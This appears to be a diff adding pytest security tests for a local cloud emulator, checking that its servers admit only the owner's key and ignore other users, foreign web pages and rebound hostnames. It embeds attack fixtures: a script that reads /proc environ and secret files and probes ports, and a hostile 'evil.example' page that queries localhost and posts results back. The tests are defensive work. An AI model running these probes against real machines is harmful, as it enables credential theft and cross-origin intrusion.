@@ -1,0 +1,382 @@
+"""Nobody but the cloud's owner is answered: not another user, not a web page, not a name that was rebound."""
+
+from __future__ import annotations
+
+import contextlib
+import http.client
+import json
+import os
+import shutil
+import signal
+import stat
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import psutil
+import pytest
+
+from distributed_fiji.local import cloud as clouds
+from distributed_fiji.local import doors, state
+from distributed_fiji.local.access import Cloud
+from distributed_fiji.local.doors import Door
+from distributed_fiji.local.state import CONTROL_PLANE, DATA_PLANE, MACHINES, Folders
+from tests.local.test_cloud import pids
+
+DOOR = Door("LOCALKEY", 4000)
+HERE = "127.0.0.1:4000"
+
+#: What a stranger would ask first: each server's sign of life, what it holds, and what would run something.
+ASKED = (
+    ("GET", "/", ""),
+    ("GET", "/_local/health", ""),
+    ("GET", "/_ministack/health", ""),
+    ("GET", "/health", ""),
+    ("GET", "/doors-bucket/secret.txt", ""),
+    ("GET", "/doors-bucket/secret.txt?X-Amz-Credential=LOCAL%2F20260101", ""),
+    ("POST", "/_ministack/reset", ""),
+    ("POST", "/interrupt", '{"instance": "i-1", "seconds": null}'),
+    ("POST", "/", "Action=DescribeInstances&Version=2016-11-15"),
+    ("GET", "/LOCAL/instances/i-1/latest/meta-data/instance-id", ""),
+    ("OPTIONS", "/", ""),
+)
+
+
+def header(key: str) -> str:
+    scope = f"{key}/20260101/us-east-1/s3/aws4_request"
+    return f"AWS4-HMAC-SHA256 Credential={scope}, SignedHeaders=host, Signature=0"
+
+
+def test_the_door_opens_to_the_key_alone():
+    for authorization in ("", "Bearer LOCALKEY", header("local"), header(""), header("LOCALKE")):
+        assert not DOOR.admits(host=HERE, origin=None, authorization=authorization)
+    assert DOOR.admits(host=HERE, origin=None, authorization=header("LOCALKEY"))
+    assert DOOR.admits(host=HERE, origin=None, authorization=doors.headers("LOCALKEY")["Authorization"])
+    assert DOOR.admits(
+        host=HERE, origin=None, authorization="", query="X-Amz-Credential=LOCALKEY%2F20260101%2Fus-east-1"
+    )
+    assert not Door("", 4000).admits(host=HERE, origin=None, authorization=header(""))
+
+
+def test_a_tasks_key_opens_the_buckets_and_no_door_behind_which_something_could_be_run(filled):
+    key = doors.task_key(filled.state.key)
+    answers = {
+        name: ask(server.port, "GET", path, "", {"Authorization": header(key)})[0]
+        for name, server in filled.state.servers.items()
+        for path in {DATA_PLANE: ["/doors-bucket/secret.txt"], MACHINES: ["/health"]}.get(
+            name, ["/_local/health"]
+        )
+    }
+
+    assert answers == {CONTROL_PLANE: 403, DATA_PLANE: 200, MACHINES: 403}
+    assert filled.state.key not in key
+
+
+@pytest.mark.parametrize("origin", ["null", "https://evil.example", f"http://{HERE}", ""])
+def test_no_page_is_let_in_even_with_the_key(origin):
+    assert not DOOR.admits(host=HERE, origin=origin, authorization=header("LOCALKEY"))
+
+
+@pytest.mark.parametrize(
+    "host", [None, "", "evil.example:4000", "127.0.0.1", "127.0.0.1:4001", "127.0.0.1.evil:4000"]
+)
+def test_no_other_name_of_the_host_is_answered_even_with_the_key(host):
+    assert not DOOR.admits(host=host, origin=None, authorization=header("LOCALKEY"))
+
+
+@pytest.fixture(scope="module")
+def filled(cloud: Cloud) -> Cloud:
+    """The cloud with an object that nobody else is to read."""
+    s3 = cloud.client("s3")
+    clouds.ensure_bucket(s3, "doors-bucket")
+    s3.put_object(Bucket="doors-bucket", Key="secret.txt", Body=b"secret")
+    return cloud
+
+
+def ports(cloud: Cloud) -> list[int]:
+    """Return every port that the cloud's processes listen on, those of their children too."""
+    processes = [psutil.Process(pid) for pid in pids(cloud).values()]
+    all_of_them = [*processes, *(child for one in processes for child in one.children(recursive=True))]
+    found = {
+        item.laddr.port
+        for one in all_of_them
+        for item in one.net_connections()
+        if item.status == psutil.CONN_LISTEN
+    }
+    return sorted(found)
+
+
+def ask(
+    port: int, method: str, path: str, body: str, headers: dict[str, str]
+) -> tuple[int, bytes, list[str]]:
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
+    try:
+        connection.request(method, path, body or None, headers)
+        answer = connection.getresponse()
+        return answer.status, answer.read(), [name for name in answer.headers if doors.is_cors(name)]
+    finally:
+        connection.close()
+
+
+def test_no_port_of_the_cloud_answers_a_stranger(filled):
+    key = header(filled.state.key)
+    for port in ports(filled):
+        strangers = (
+            {},
+            {"Authorization": header("local")},
+            {"Authorization": key, "Host": f"evil.example:{port}"},
+            {"Authorization": key, "Host": f"localhost.evil.example:{port}"},
+            {"Authorization": key, "Origin": "https://evil.example"},
+            {"Authorization": key, "Origin": "null", "Access-Control-Request-Method": "PUT"},
+        )
+        for headers in strangers:
+            for method, path, body in ASKED:
+                assert ask(port, method, path, body, headers) == (403, b"", []), (port, method, path, headers)
+    assert len(ports(filled)) == len(filled.state.servers)
+    assert filled.client("s3").get_object(Bucket="doors-bucket", Key="secret.txt")["Body"].read() == b"secret"
+
+
+def test_an_answer_to_the_owner_has_no_cors_header_either(filled):
+    paths = {DATA_PLANE: "/doors-bucket/secret.txt", MACHINES: "/health"}
+    for name, server in filled.state.servers.items():
+        headers = {"Authorization": header(filled.state.key)}
+        status, _, cors = ask(server.port, "GET", paths.get(name, "/_local/health"), "", headers)
+
+        assert (status, cors) == (200, []), name
+
+
+def test_the_secret_and_all_else_in_the_folder_are_their_owners_alone(filled):
+    assert stat.S_IMODE(filled.root.stat().st_mode) == 0o700
+    assert stat.S_IMODE(filled.folders.state.stat().st_mode) == 0o600
+    assert filled.state.key in filled.folders.state.read_text()
+    assert filled.state.key not in repr(filled.state)
+    assert len(filled.state.key) == 45
+
+
+def test_a_folder_that_was_open_is_closed_and_a_cloud_without_a_secret_gets_one(tmp_path):
+    root = tmp_path / "local-cloud"
+    root.mkdir(mode=0o755)
+    try:
+        first = clouds.start(root)
+        state.write(Folders(root), state.State(first.state.servers, fiji=first.state.fiji))
+
+        second = clouds.start(root)
+
+        assert stat.S_IMODE(root.stat().st_mode) == 0o700
+        assert second.state.key not in {"", first.state.key}
+        assert set(pids(first).values()).isdisjoint(pids(second).values())
+    finally:
+        clouds.reset(root)
+
+
+#: What another user of the machine tries: the folder, what runs, and every port, as boto3 would.
+ATTACK = """
+import json, os, sys, urllib.error, urllib.request
+root, ports = sys.argv[1], json.loads(sys.argv[2])
+got = {"uid": os.getuid(), "read": 0, "answered": 0, "asked": 0}
+def read(path):
+    try:
+        got["read"] += len(open(path, "rb").read())
+    except OSError:
+        pass
+read(os.path.join(root, "state.json"))
+read(os.path.join(root, "s3", "doors-bucket", "secret.txt"))
+read(os.path.join(root, "data", "123456789012", "doors-bucket", "secret.txt"))
+for pid in json.loads(sys.argv[3]):
+    read(f"/proc/{pid}/environ")
+try:
+    got["read"] += len(os.listdir(root))
+except OSError:
+    pass
+for port in ports:
+    for method, path, body in json.loads(sys.argv[4]):
+        for key in ("", "local", "test", "123456789012"):
+            headers = {"Authorization": f"AWS4-HMAC-SHA256 Credential={key}/x"} if key else {}
+            url = f"http://127.0.0.1:{port}{path}"
+            got["asked"] += 1
+            try:
+                asked = urllib.request.Request(url, body.encode() or None, headers, method=method)
+                with urllib.request.urlopen(asked, timeout=10) as answer:
+                    got["answered"] += 1
+                    got["read"] += len(answer.read())
+            except urllib.error.HTTPError as error:
+                got["answered"] += error.code != 403
+                got["read"] += len(error.read())
+print(json.dumps(got))
+"""
+
+
+@contextlib.contextmanager
+def opened(folder: Path) -> Iterator[None]:
+    """Let everybody into a folder and those above it: pytest's are closed, and would hide what ours is."""
+    closed = [one for one in (folder, *folder.parents) if not stat.S_IMODE(one.stat().st_mode) & 0o001]
+    modes = {one: stat.S_IMODE(one.stat().st_mode) for one in closed}
+    for one, mode in modes.items():
+        one.chmod(mode | 0o055)
+    try:
+        yield
+    finally:
+        for one, mode in modes.items():
+            one.chmod(mode)
+
+
+def test_another_user_of_the_machine_is_not_answered_and_reads_nothing(filled, tmp_path_factory):
+    if os.geteuid() != 0 or not shutil.which("setpriv"):
+        pytest.skip("to become another user, this test needs to be root and to have setpriv")
+    with opened(filled.root.parent):
+        nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
+        python = [str(Path(sys.executable).resolve()), "-I", "-c", ATTACK]
+        known = [json.dumps(item) for item in (ports(filled), list(pids(filled).values()), ASKED)]
+        done = subprocess.run(
+            [*nobody, *python, str(filled.root), *known], capture_output=True, text=True, cwd="/", timeout=120
+        )
+
+    assert done.returncode == 0, done.stderr
+    got = json.loads(done.stdout)
+    assert got == {"uid": 65534, "read": 0, "answered": 0, "asked": 4 * len(ASKED) * len(ports(filled))}
+
+
+BROWSERS = ("chromium-headless-shell", "chromium", "chromium-browser", "google-chrome")
+
+#: A page of another origin that asks each port in every way it has, and tells its own server what it got.
+PAGE = """<!doctype html><title>Evil</title><script>
+const ports = %(ports)s, key = "%(key)s";
+const got = {asked: 0, answered: 0, read: 0, errors: 0};
+async function ask(url, options) {
+  got.asked++;
+  try {
+    const answer = await fetch(url, options);
+    const text = await answer.text();
+    if (answer.type !== "opaque" && answer.status !== 403) got.answered++;
+    got.read += text.length;
+  } catch (error) { got.errors++; }
+}
+function element(name, url) {
+  return new Promise(done => {
+    const made = document.createElement(name);
+    got.asked++;
+    made.onload = () => { if (name !== "iframe") got.answered++; done(); };
+    made.onerror = done;
+    if (name === "link") { made.rel = "stylesheet"; made.href = url; } else made.src = url;
+    document.documentElement.append(made);
+    setTimeout(done, 3000);
+  });
+}
+function socket(url) {
+  return new Promise(done => {
+    got.asked++;
+    const made = new WebSocket(url);
+    made.onopen = () => { got.answered++; done(); };
+    made.onerror = done;
+    setTimeout(done, 3000);
+  });
+}
+async function attack() {
+  const register = "Action=RegisterTaskDefinition";
+  for (const port of ports) {
+    const url = `http://127.0.0.1:${port}`;
+    for (const path of ["/", "/_local/health", "/_ministack/health", "/health", "/doors-bucket/secret.txt"]) {
+      await ask(url + path);
+      await ask(url + path, {mode: "no-cors"});
+      await ask(url + path, {headers: {Authorization: `AWS4-HMAC-SHA256 Credential=${key}/x`}});
+    }
+    await ask(url + "/doors-bucket", {method: "PUT", mode: "no-cors"});
+    await ask(url + "/evil-bucket", {method: "PUT", headers: {Authorization: `Local Credential=${key}/`}});
+    await ask(url, {method: "POST", mode: "no-cors", body: register});
+    await ask(url + "/2015-03-31/functions", {method: "POST", mode: "no-cors", body: "{}"});
+    await ask(url, {method: "POST", body: "{}", headers: {
+      "Content-Type": "application/x-amz-json-1.1",
+      "X-Amz-Target": "AmazonEC2ContainerServiceV20141113.RegisterTaskDefinition"}});
+    for (const name of ["img", "script", "link", "iframe"]) await element(name, url + "/doors-bucket/a");
+    await socket(`ws://127.0.0.1:${port}/`);
+  }
+}
+attack().finally(() => fetch("/got", {method: "POST", body: JSON.stringify(got)}));
+</script>"""
+
+
+class Evil(ThreadingHTTPServer):
+    """A web site of another origin; `got` is what its page tells it."""
+
+    def __init__(self, page: str) -> None:
+        self.got: dict[str, Any] = {}
+        self.told = threading.Event()
+        evil = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.end_headers()
+                self.wfile.write(page.encode() if self.path == "/" else b"")
+
+            def do_POST(self) -> None:
+                evil.got = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+                self.send_response(204)
+                self.end_headers()
+                evil.told.set()
+
+            def log_message(self, format: str, *args: Any) -> None:
+                """Write no line per request."""
+
+        super().__init__(("127.0.0.1", 0), Handler)
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+
+@contextlib.contextmanager
+def browser(folder: Path, url: str, *options: str) -> Iterator[subprocess.Popen[str]]:
+    """Open a page in a headless browser, for which every name is this machine's; skip where there is none."""
+    program = next(filter(None, map(shutil.which, BROWSERS)), None)
+    if program is None:
+        pytest.skip(f"none of these browsers is installed: {', '.join(BROWSERS)}")
+    command = [
+        program,
+        "--headless",
+        "--no-sandbox",
+        "--disable-gpu",
+        "--no-first-run",
+        f"--user-data-dir={folder}",
+    ]
+    rules = "--host-resolver-rules=MAP *.example 127.0.0.1"
+    with subprocess.Popen(
+        [*command, rules, *options, url],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        text=True,
+        start_new_session=True,
+    ) as process:
+        try:
+            yield process
+        finally:
+            with contextlib.suppress(ProcessLookupError):
+                os.killpg(process.pid, signal.SIGKILL)  # its own processes do not end with it
+
+
+@pytest.mark.thorough
+def test_a_page_in_a_real_browser_is_not_answered_and_reads_nothing(filled, tmp_path):
+    page = PAGE % {"ports": json.dumps(ports(filled)), "key": filled.state.key}
+    evil = Evil(page)
+    with browser(tmp_path, f"http://evil.example:{evil.server_address[1]}/", "--remote-debugging-port=0"):
+        assert evil.told.wait(120)
+    evil.shutdown()
+    evil.server_close()
+
+    assert evil.got["asked"] == 25 * len(ports(filled))
+    assert (evil.got["answered"], evil.got["read"]) == (0, 0)
+    assert [item["Name"] for item in filled.client("s3").list_buckets()["Buckets"]] == ["doors-bucket"]
+    assert filled.client("ecs").list_task_definitions()["taskDefinitionArns"] == []
+    assert filled.client("lambda").list_functions()["Functions"] == []
+
+
+@pytest.mark.thorough
+def test_a_name_that_was_rebound_to_this_machine_shows_a_real_browser_nothing(filled, tmp_path):
+    for port in ports(filled):
+        for path in ("", "doors-bucket/secret.txt", "_local/health", "health"):
+            with browser(tmp_path, f"http://rebound.example:{port}/{path}", "--dump-dom") as process:
+                said, _ = process.communicate(timeout=60)
+            assert "secret" not in said.replace("secret.txt", "")
+            assert "HTTP ERROR 403" in said or "<body></body>" in said, said
